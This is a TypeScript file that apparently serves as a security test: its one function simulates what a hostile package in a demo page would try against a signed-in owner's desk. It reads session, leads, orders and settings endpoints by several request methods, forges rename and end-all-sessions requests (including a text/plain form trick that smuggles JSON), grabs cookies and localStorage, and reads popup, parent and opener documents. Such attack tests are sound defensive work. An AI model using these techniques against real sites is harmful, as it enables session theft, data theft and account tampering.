/** What a hostile package in a built demo would try while an owner is signed in. Runs in the page, after a click. */
export async function attackDesk() {
  const stolen: string[] = [];
  const keep = (how: string, what: string | null | undefined) => {
    if (what) stolen.push(`${how}: ${what.slice(0, 80)}`);
  };
  const attempt = (work: () => unknown) =>
    Promise.race([
      Promise.resolve().then(work),
      new Promise((resolve) => setTimeout(resolve, 5_000)),
    ]).catch(() => {});
  const read = ["session", "leads.csv", "orders", "settings"].map((path) => `/api/desk/${path}`);
  const rename = "/api/desk/owner/name";
  const body = JSON.stringify({ name: "Mallory" });
  const json = { "Content-Type": "application/json" };

  const popup = window.open("/desk");
  for (const path of read) {
    await attempt(async () => {
      const answer = await fetch(path, { credentials: "include", referrer: "/desk" });
      if (answer.ok) keep(`fetch ${path}`, await answer.text());
    });
    await attempt(() =>
      fetch(path, { mode: "no-cors" })
        .then((one) => one.text())
        .then((text) => keep("no-cors", text)),
    );
    await attempt(
      () =>
        new Promise<void>((resolve) => {
          const request = new XMLHttpRequest();
          request.onloadend = () => {
            if (request.status === 200) keep("XMLHttpRequest", request.responseText);
            resolve();
          };
          request.open("GET", path);
          request.send();
        }),
    );
    await attempt(() => import(path));
  }
  for (const path of ["/desk", ...read]) {
    await attempt(
      () =>
        new Promise<void>((resolve) => {
          const frame = document.createElement("iframe");
          frame.onload = () => {
            keep(`frame ${path}`, frame.contentDocument?.body?.textContent);
            resolve();
          };
          frame.src = path;
          document.body.append(frame);
        }),
    );
  }
  await attempt(() => fetch(rename, { method: "POST", headers: json, body }));
  await attempt(() =>
    fetch("/api/desk/sessions/end-all", { method: "POST", headers: json, body: "{}" }),
  );
  await attempt(() => navigator.sendBeacon(rename, new Blob([body], { type: "application/json" })));
  await attempt(() => {
    const form = document.createElement("form");
    Object.assign(form, {
      method: "post",
      action: rename,
      target: "_blank",
      enctype: "text/plain",
    });
    const field = document.createElement("input");
    Object.assign(field, { name: '{"name":"Mallory","x":"', value: '"}' });
    form.append(field);
    document.body.append(form);
    form.submit();
  });
  await attempt(() => keep("cookie", document.cookie));
  await attempt(() => keep("storage", JSON.stringify({ ...localStorage, at: "storage" })));
  await attempt(async () => {
    const script = [...document.scripts].find(({ src }) => src)?.src ?? "";
    const worker = await navigator.serviceWorker.register(script);
    keep("service worker", worker.scope);
  });
  for (const [name, other] of Object.entries({
    popup,
    parent: window === parent ? null : parent,
    opener,
  }))
    await attempt(async () => {
      await new Promise((resolve) => setTimeout(resolve, 1_500));
      keep(name, other?.document?.body?.textContent);
    });
  await attempt(() => {
    popup?.close();
  });
  return stolen;
}
